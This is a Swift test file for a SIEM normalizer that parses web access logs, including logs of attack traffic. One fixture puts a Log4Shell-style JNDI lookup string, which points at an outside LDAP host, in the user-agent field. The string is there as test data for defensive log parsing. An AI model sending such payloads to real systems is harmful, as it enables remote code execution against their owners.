import Foundation
import SIEMTestSupport
import Testing

@testable import SIEMCore

@Suite struct WebNormalizerTests {
    @Test func combinedLines() {
        let event = Samples.normalize(
            #"203.0.113.88 - - [14/Mar/2026:18:02:09 +0000] "GET /search?q=a HTTP/1.1" 200 18342 "-" "${jndi:ldap://198.51.100.66:1389/a}""#
        )
        #expect(event.logType == "web")
        #expect(event["source.ip"] == "203.0.113.88")
        #expect(event["http.request.method"] == "GET")
        #expect(event["url.original"] == "/search?q=a")
        #expect(event["url.path"] == "/search")
        #expect(event["url.query"] == "q=a")
        #expect(event["http.version"] == "1.1")
        #expect(event["http.response.status_code"] == "200")
        #expect(event["http.response.body.bytes"] == "18342")
        #expect(event["user_agent.original"] == "${jndi:ldap://198.51.100.66:1389/a}")
        #expect(event["http.request.referrer"] == nil)
        #expect(event.ts == Date(timeIntervalSince1970: 1_773_511_329))

        let offset = Samples.normalize(
            #"195.154.46.135 - - [25/Oct/2015:04:11:25 +0100] "GET /linux/doing-pxe-without-dhcp-control HTTP/1.1" 200 24323 "http://howto.basjes.nl/" "Mozilla/5.0 (Windows NT 5.1; rv:35.0) Gecko/20100101 Firefox/35.0""#
        )
        #expect(offset.ts == Date(timeIntervalSince1970: 1_445_742_685))  // 03:11:25Z
        #expect(offset["http.request.referrer"] == "http://howto.basjes.nl/")

        let tls = Samples.normalize(
            #"198.51.100.23 - - [14/Mar/2026:13:38:11 +0000] "\x16\x03\x00\x00S\x01" 400 150 "-" "-""#)
        #expect(tls["http.response.status_code"] == "400")
        #expect(tls["event.outcome"] == "failure")
        #expect(tls["http.request.method"] == nil)
        #expect(tls["http.request.original"] == #"\x16\x03\x00\x00S\x01"#)
    }

    @Test func jsonAccessRecords() {
        let line =
            #"{"remote_addr":"192.0.2.7","time_iso8601":"2026-03-14T10:00:00+01:00","request":"POST /login HTTP/2.0","status":401,"body_bytes_sent":"12","http_user_agent":"curl/8.0","host":"WWW.Example.com"}"#
        for event in [Samples.normalize(line, logType: "web"), Samples.normalize(line)] {
            #expect(event.logType == "web")
            #expect(event["source.ip"] == "192.0.2.7")
            #expect(event["http.request.method"] == "POST")
            #expect(event["url.original"] == "/login")
            #expect(event["http.response.status_code"] == "401")
            #expect(event["event.outcome"] == "failure")
            #expect(event["url.domain"] == "www.example.com")
            #expect(event.ts == Date(timeIntervalSince1970: 1_773_478_800))
        }
    }

    @Test func accessCoverageOfSyntheticLog() throws {
        try checkAccessCoverage("synthetic/web-attacks.log")
    }

    @Test(.enabled(if: TestData.sharedAvailable, Comment(rawValue: TestData.sharedMissingReason)))
    func accessCoverageOfSharedSample() throws {
        try checkAccessCoverage("web_access/basjes_hackers-access_L1-2000.log")
    }

    func checkAccessCoverage(_ file: String) throws {
        let events = try Samples.events(file)
        let result = coverage(
            events, of: { _ in true }, keys: ["source.ip", "http.response.status_code", "event.outcome"]
        ) { $0["url.original"] != nil || $0["http.request.original"] != nil }
        #expect(result.covered == result.total, "missed: \(result.missed)")
        #expect(events.allSatisfy { $0.ts != Samples.receivedAt })
    }

    @Test func statusCodesMatchGroundTruth() throws {
        let events = try Samples.events("synthetic/web-attacks.log")
        let expected = try Samples.expected("web-attacks.log")["status_codes"] as? [String: Int] ?? [:]
        #expect(!expected.isEmpty)
        for (status, count) in expected {
            #expect(events.filter { $0["http.response.status_code"] == status }.count == count, "status \(status)")
        }
    }

    @Test(.enabled(if: TestData.sharedAvailable, Comment(rawValue: TestData.sharedMissingReason)))
    func errorLogsYieldTheClient() throws {
        let events = try Samples.events("web_error/fail2ban_nginx-http-auth.log")
        let result = coverage(events, of: { $0.message.contains("client: ") }, keys: ["source.ip"])
        #expect(result.total > 0)
        #expect(result.covered == result.total, "missed: \(result.missed)")
    }
}
